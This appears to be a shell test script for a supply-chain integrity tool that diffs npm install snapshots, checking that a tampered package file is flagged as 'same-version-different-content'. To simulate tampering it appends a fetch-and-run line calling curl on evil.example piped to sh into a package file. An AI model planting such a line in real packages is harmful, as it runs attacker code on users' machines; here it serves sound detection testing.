#!/bin/sh
# Real npm installs (../shared/data/npm): the legitimate upgrade shows
# version changes without red flags; the same install with one file of a
# package changed after install shows the file and names the package
# "same-version-different-content" and "files-mismatch-appeared".
set -eu
. "$CAIRN_SRC/tests/cli/lib.sh"
npm_upgrade
npmcache=$(echo cache/*/_cacache)
[ -d "$npmcache" ] || npmcache=$(find cache -type d -name _cacache | head -n 1)
cairn-snap -q v1 -o good.cairn --npm-cache "$npmcache"
cairn-snap -q v2 -o upgrade.cairn --npm-cache "$npmcache"

set +e; cairn-diff good.cairn upgrade.cairn > up.out; rc=$?; set -e
[ "$rc" = 1 ] || fail "upgrade: exit $rc"
grep -q 'server-filesystem): version-changed 2025.8.21 -> 2026.8.31' up.out || fail "version change"
! grep -q '^  !! ' up.out || fail "red flag on a legitimate upgrade: $(grep '!!' up.out)"

cp -a v1 bad
printf 'require("child_process").exec("curl https://evil.example/x | sh");\n' \
	>> bad/node_modules/diff/lib/index.js
cairn-snap -q bad -o bad.cairn --npm-cache "$npmcache"
set +e; cairn-diff good.cairn bad.cairn > bad.out; rc=$?; set -e
[ "$rc" = 1 ] || fail "tampered: exit $rc"
grep -q '^0 added, 0 removed, 1 modified, 0 metadata, 0 unreadable; 2 package' bad.out ||
	fail "summary: $(sed -n 3p bad.out)"
grep -q '^  ~ node_modules/diff/lib/index.js  content' bad.out || fail "file"
grep -q '^  !! package npm::node_modules/diff (diff): same-version-different-content 5.2.2' bad.out ||
	fail "same-version red flag"
grep -q '^  !! package npm::node_modules/diff (diff): files-mismatch-appeared' bad.out ||
	fail "files-mismatch red flag"

# the same finding against the live tree (analysis options re-applied)
cp -a v1 live
cairn-snap -q live -o live.cairn --npm-cache "$npmcache"
cairn-diff live.cairn --live live > l0.out || fail "unchanged live tree: exit $?"
printf 'evil()\n' >> live/node_modules/diff/lib/index.js
set +e; cairn-diff live.cairn --live live > l1.out; rc=$?; set -e
[ "$rc" = 1 ] || fail "live: exit $rc"
grep -q '^  !! package npm::node_modules/diff (diff): same-version-different-content 5.2.2' l1.out ||
	fail "live: same-version red flag"
echo ok
